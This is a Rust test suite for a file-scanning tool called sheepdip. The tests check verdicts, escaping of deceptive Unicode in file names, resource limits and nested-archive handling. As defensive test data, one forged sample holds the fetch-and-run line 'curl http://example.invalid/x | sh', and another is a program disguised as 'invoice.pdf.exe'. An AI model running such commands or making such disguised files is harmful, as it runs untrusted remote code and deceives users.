//! The laws of the house, over everything that the tests can forge and over arbitrary input.

use std::io::{self, Read};
use std::time::Duration;

use bytes::Bytes;
use proptest::prelude::*;

use crate::forge::{Case, case, jpeg, pe, png, zip};
use crate::{formats, scan};
use sheepdip::catalog;
use sheepdip::model::artifact::{Artifact, ArtifactId, Content, Origin, Sample};
use sheepdip::model::claim::Claim;
use sheepdip::model::finding::{Evidence, Finding};
use sheepdip::model::gap::{Gap, GapReason, LimitKind, PlacedGap};
use sheepdip::model::inspection::{Child, Extent, Inspection, Sink};
use sheepdip::model::limits::{Budget, Limits};
use sheepdip::model::name::{Name, escape, escape_short, is_deceptive};
use sheepdip::model::password::Password;
use sheepdip::model::report::{FileReport, Verdict};
use sheepdip::model::types::UNKNOWN;
use sheepdip::pipeline::{self, Plan};
use sheepdip::policy;

/// What a report says, without its time.
fn words(report: &FileReport) -> Vec<String> {
    let artifacts = report.artifacts.iter().map(|a| format!("{} {:?} {}", a.content_type.id, a.origin, a.size));
    let findings =
        report.findings.iter().map(|f| format!("{} {:?} {:?} {:?}", f.rule.id, f.artifact, f.span, f.evidence));
    let gaps = report.gaps.iter().map(|g| format!("{:?} {:?}", g.artifact, g.gap));
    artifacts.chain(findings).chain(gaps).chain([format!("{:?}", report.judgement)]).collect()
}

fn cases() -> Vec<Case> {
    let examples = || formats::EXAMPLES.iter().chain(scan::EXAMPLES).flat_map(|e| e.iter());
    examples().flat_map(|e| [(e.fires)(), (e.silent)()]).collect()
}

fn with_limits(change: impl FnOnce(&mut Limits)) -> Plan {
    let mut plan = Plan::default();
    change(&mut plan.limits);
    plan
}

#[test]
fn the_same_bytes_claim_and_limits_give_the_same_report() {
    for case in cases() {
        assert_eq!(words(&case.examine()), words(&case.examine()), "{}", case.name);
    }
}

#[test]
fn findings_and_gaps_come_in_the_order_of_the_artifacts() {
    for case in cases() {
        let report = case.examine();
        assert!(report.findings.is_sorted_by_key(|f| f.artifact), "{}", case.name);
        assert!(report.gaps.is_sorted_by_key(|g| g.artifact), "{}", case.name);
        for finding in &report.findings {
            assert!(report.artifact(finding.artifact).is_some(), "{} is in no artifact", finding.rule.id);
        }
    }
}

#[test]
fn a_report_is_complete_exactly_when_it_has_no_gap_and_a_gap_is_never_clean() {
    for case in cases() {
        let report = case.examine();
        assert_eq!(report.judgement.complete, report.gaps.is_empty(), "{}", case.name);
        assert!(report.gaps.is_empty() || report.judgement.verdict > Verdict::Clean, "{}", case.name);
    }
}

#[test]
fn no_rule_speaks_of_a_stranger_unescaped() {
    for case in cases() {
        let report = case.examine();
        let texts = report.findings.iter().flat_map(|f| [f.proof(), f.meaning(), f.advice()]);
        let facts = report.artifacts.iter().flat_map(|a| a.facts.iter().map(|(_, v)| v.to_string()));
        for text in texts.chain(facts).chain(report.gaps.iter().map(|g| g.gap.detail.clone())) {
            assert!(!text.chars().any(is_deceptive), "{}: {text:?}", case.name);
        }
    }
}

fn any_gap() -> impl Strategy<Value = Gap> {
    let reasons = prop::sample::select(vec![
        GapReason::Malformed,
        GapReason::Encrypted,
        GapReason::Unsupported,
        GapReason::Limit(LimitKind::Depth),
        GapReason::Crashed,
        GapReason::TimedOut,
        GapReason::Unreadable,
        GapReason::Interrupted,
    ]);
    reasons.prop_map(|reason| Gap::new(reason, "something"))
}

fn any_finding() -> impl Strategy<Value = Finding> {
    let rules: Vec<_> = catalog::rules().collect();
    prop::sample::select(rules).prop_map(|rule| Finding::new(rule, ArtifactId(0)))
}

/// Characters of every kind that a name can be made of.
fn any_text() -> impl Strategy<Value = String> {
    let nasty: Vec<char> =
        "\u{202E}\u{2066}\u{200B}\u{FEFF}\u{AD}\n\r\t\u{1B}\u{7}\u{0}\u{85}\u{2028}\u{E0041}.".chars().collect();
    let piece = prop_oneof![
        any::<char>().prop_map(String::from),
        prop::sample::select(nasty).prop_map(String::from),
        prop::sample::select(vec![".exe", ".jpg", "=?utf-8?B?", "?=", "%2e", "{", "}", "utf-8''", "/", "\\", ":"])
            .prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn more_findings_and_gaps_never_make_a_milder_verdict(
        findings in prop::collection::vec(any_finding(), 0..6),
        gaps in prop::collection::vec(any_gap(), 0..4),
        finding in any_finding(),
        gap in any_gap(),
    ) {
        let placed = |gaps: &[Gap]| -> Vec<PlacedGap> {
            gaps.iter().map(|gap| PlacedGap { artifact: None, gap: gap.clone() }).collect()
        };
        let before = policy::judge(&findings, &placed(&gaps));
        let mut more = findings.clone();
        more.push(finding);
        prop_assert!(policy::judge(&more, &placed(&gaps)).verdict >= before.verdict);
        let mut wider = gaps.clone();
        wider.push(gap);
        let judged = policy::judge(&findings, &placed(&wider));
        prop_assert!(judged.verdict >= before.verdict && judged.verdict > Verdict::Clean && !judged.complete);
    }

    #[test]
    fn a_stranger_s_text_cannot_be_shown_unescaped(text in any_text(), raw in prop::collection::vec(any::<u8>(), 0..80)) {
        for name in [Name::from_text(&text), Name::from_bytes(&raw), Name::from_text(&text).file_name()] {
            let shown = name.to_string();
            prop_assert!(!shown.chars().any(is_deceptive), "{shown:?}");
            prop_assert!(!Evidence::from(&name).to_string().chars().any(is_deceptive));
        }
        prop_assert!(!Evidence::from(text.as_str()).to_string().chars().any(is_deceptive));
        prop_assert!(!Gap::malformed(&text).detail.chars().any(is_deceptive));
        prop_assert!(!escape(&text).chars().any(is_deceptive));
        prop_assert!(!escape_short(&text, 5).chars().any(is_deceptive));
    }

    #[test]
    fn any_name_is_judged_without_a_crash_and_shown_escaped(name in any_text(), program in any::<bool>()) {
        let bytes = if program { pe::minimal() } else { b"hello, this is a text\n".to_vec() };
        let report = case(&name, bytes).examine();
        prop_assert!(report.gaps.iter().all(|g| g.gap.reason != GapReason::Crashed), "{name:?}");
        // A program stays one, whatever it is called.
        prop_assert!(!program || report.judgement.verdict >= Verdict::Suspicious, "{name:?}");
        for finding in &report.findings {
            prop_assert!(!finding.proof().chars().any(is_deceptive), "{:?}", finding.proof());
            prop_assert!(!finding.meaning().chars().any(is_deceptive), "{:?}", finding.meaning());
        }
    }

    #[test]
    fn any_bytes_are_examined_without_a_crash(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let report = case("file.bin", bytes).examine();
        prop_assert!(report.gaps.iter().all(|g| g.gap.reason != GapReason::Crashed));
    }
}

/// A walk that only counts.
struct Counter {
    budget: Budget,
    gaps: Vec<Gap>,
    children: Vec<(u64, bool)>,
    surplus: Option<Finding>,
}

impl Counter {
    fn new(change: impl FnOnce(&mut Limits)) -> Self {
        let mut limits = Limits::default();
        change(&mut limits);
        Self { budget: Budget::new(&limits), gaps: Vec::new(), children: Vec::new(), surplus: None }
    }

    fn spent(&self) -> u64 {
        self.budget.limits().total_bytes - self.budget.bytes_left()
    }
}

impl Sink for Counter {
    fn finding(&mut self, _: &Artifact, finding: Finding) -> &mut Finding {
        self.surplus.insert(finding)
    }

    fn fact(&mut self, _: &Artifact, _: &'static str, _: Evidence) {}

    fn gap(&mut self, _: &Artifact, gap: Gap) {
        self.gaps.push(gap);
    }

    fn child(&mut self, _: &Artifact, sample: Sample, extent: Extent) -> Option<Child> {
        self.children.push((sample.content.size(), extent != Extent::Head));
        Some(Child { content_type: &UNKNOWN, worst: None, size: 0, whole: true })
    }

    fn budget(&mut self) -> &mut Budget {
        &mut self.budget
    }

    fn passwords(&self) -> Vec<Password> {
        Vec::new()
    }

    fn password_fits(&mut self, _: &Password) {}

    fn offer_passwords(&mut self, _: Vec<String>) {}
}

fn artifact(bytes: Vec<u8>) -> Artifact {
    Artifact {
        id: ArtifactId(0),
        parent: None,
        depth: 0,
        origin: Origin::File,
        claim: Claim::none(),
        content_type: &UNKNOWN,
        content: Content::Whole(Bytes::from(bytes)),
    }
}

/// Gives bytes, then fails.
struct Failing(u64);

impl Read for Failing {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let count = buffer.len().min(usize::try_from(self.0).unwrap());
        if count == 0 {
            return Err(io::Error::other("the disk is on fire\u{202E}"));
        }
        buffer[..count].fill(b'x');
        self.0 -= count as u64;
        Ok(count)
    }
}

#[test]
fn every_byte_handed_to_a_child_is_charged_to_one_budget() {
    let outer = artifact(vec![7; 1000]);
    let mut counter = Counter::new(|_| {});
    let mut inspection = Inspection::new(&outer, &mut counter);
    inspection.slice(Origin::Member, Claim::none(), 100..400);
    inspection.carve(900..5000);
    inspection.child(Origin::Decoded, Claim::none(), &mut [1u8; 70_000].as_slice());
    inspection.child(Origin::Decoded, Claim::none(), &mut Failing(130_000));
    assert_eq!(counter.children, [(300, true), (100, true), (70_000, true), (130_000, true)]);
    assert_eq!(counter.spent(), 300 + 100 + 70_000 + 130_000);
    assert_eq!(counter.gaps.len(), 1, "{:?}", counter.gaps);
}

#[test]
fn a_reader_that_fails_midway_is_a_gap_and_what_came_is_examined() {
    let outer = artifact(vec![7; 10]);
    let mut counter = Counter::new(|_| {});
    Inspection::new(&outer, &mut counter).child(Origin::Member, Claim::none(), &mut Failing(100_000));
    assert_eq!(counter.children, [(100_000, true)]);
    assert_eq!(counter.gaps[0].reason, GapReason::Malformed);
    assert!(counter.gaps[0].detail.contains("the disk is on fire[U+202E]"), "{}", counter.gaps[0].detail);
}

#[test]
fn a_part_above_the_limit_is_a_gap_and_only_its_head_is_kept() {
    let outer = artifact(vec![7; 10]);
    let mut counter = Counter::new(|l| {
        l.artifact_bytes = 100_000;
        l.head_bytes = 4096;
    });
    Inspection::new(&outer, &mut counter).child(Origin::Member, Claim::none(), &mut io::repeat(1));
    assert_eq!(counter.children, [(4096, false)]);
    assert_eq!(counter.gaps[0].reason, GapReason::Limit(LimitKind::ArtifactBytes));
    assert!(counter.spent() <= 100_000 + 2 * 65_536, "{}", counter.spent());
}

#[test]
fn an_empty_budget_is_a_gap_for_readers_and_slices() {
    let outer = artifact(vec![7; 5000]);
    let mut counter = Counter::new(|l| {
        l.total_bytes = 1000;
        l.head_bytes = 100;
    });
    let mut inspection = Inspection::new(&outer, &mut counter);
    assert!(inspection.carve(0..5000).is_none());
    inspection.child(Origin::Member, Claim::none(), &mut io::repeat(1));
    assert_eq!(counter.children, [(100, false)]);
    let reasons: Vec<_> = counter.gaps.iter().map(|g| g.reason).collect();
    assert_eq!(reasons, [GapReason::Limit(LimitKind::TotalBytes); 2]);
}

/// A program in archives in archives.
fn nested(levels: usize) -> Vec<u8> {
    let mut bytes = zip::of("letter.txt", "hello, this is a text\n");
    for level in 0..levels {
        bytes = zip::of(&format!("level{level}.zip"), bytes);
    }
    bytes
}

#[test]
fn every_limit_that_ends_the_walk_is_a_gap_and_never_clean() {
    let honest = case("a.zip", nested(5));
    assert_eq!(honest.examine().judgement.verdict, Verdict::Clean);
    let limits: [(&str, Plan); 5] = [
        ("depth", with_limits(|l| l.depth = 3)),
        ("artifacts", with_limits(|l| l.artifacts = 3)),
        ("bytes of one", with_limits(|l| l.artifact_bytes = 300)),
        ("bytes of all", with_limits(|l| l.total_bytes = 500)),
        ("time", with_limits(|l| l.time = Duration::ZERO)),
    ];
    for (limit, plan) in limits {
        let report = honest.examine_with(&plan);
        assert_eq!(report.judgement.verdict, Verdict::Unexamined, "{limit}: {:?}", report.gaps);
        assert!(!report.judgement.complete, "{limit}");
    }
}

#[test]
fn what_the_source_could_not_read_is_never_clean() {
    let honest = case("photo.png", png::plain());
    let gaps = vec![Gap::new(GapReason::Unreadable, "the last part could not be read")];
    let began = std::time::Instant::now();
    let report = pipeline::examine(Name::from_text("photo.png"), honest.sample(), gaps, &Plan::default(), began);
    assert_eq!(report.judgement.verdict, Verdict::Unexamined);
    let gap = Gap::new(GapReason::Unreadable, "no permission");
    let report = pipeline::unreadable(Name::from_text("photo.png"), None, gap, began);
    assert_eq!(report.judgement.verdict, Verdict::Unexamined);
}

#[test]
fn a_verdict_is_that_of_the_worst_part() {
    let members = [zip::stored("a.jpg", jpeg::plain()), zip::stored("invoice.pdf.exe", pe::minimal())];
    let inner = zip::archive(&members);
    let report = case("photos.zip", zip::of("more.zip", inner)).examine();
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
}

#[test]
fn of_a_member_that_breaks_off_there_is_no_hash_but_what_came_is_examined() {
    // Half of a deflated program with something readable in it.
    let mut words = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n".to_vec();
    words.extend(crate::forge::noise(50_000));
    let whole = zip::deflated("run.sh", &words);
    let cut = zip::Member { data: whole.data[..whole.data.len() / 2].to_vec(), ..whole };
    let report = case("a.zip", zip::archive(&[cut])).examine();
    let part = &report.artifacts[1];
    assert!(part.size > 1000 && part.hashes.is_none(), "{part:?}");
    assert!(report.gaps.iter().any(|g| g.gap.reason == GapReason::Malformed), "{:?}", report.gaps);
    assert_ne!(part.content_type.id, "unknown", "what came is typed");
}

#[test]
fn what_is_in_memory_at_a_time_is_limited_however_deep_it_stands() {
    // Each archive holds the next one stored: one byte of the file is several in memory.
    let mut bytes = zip::of("zeros.bin", vec![0; 200_000]);
    let plain = zip::of("zeros.bin", vec![1; 1000]);
    for level in 0..3 {
        let filler = zip::stored("filler.bin", vec![level; 50_000]);
        bytes = zip::archive(&[zip::deflated("inner.zip", bytes), filler, zip::stored("plain.zip", &plain)]);
    }
    let outer = zip::of("a.zip", bytes);
    let report = case("outer.zip", outer.clone()).examine_with(&with_limits(|l| l.memory = 250_000));
    let gap = report.gaps.iter().find(|g| g.gap.reason == GapReason::Limit(LimitKind::Memory)).expect("no gap");
    assert!(gap.gap.detail.contains("250000"), "{}", gap.gap.detail);
    // What is released can be used again: the last small archive is examined.
    assert!(report.artifacts.last().unwrap().hashes.is_some());
    assert!(case("outer.zip", outer).examine().judgement.complete);
}
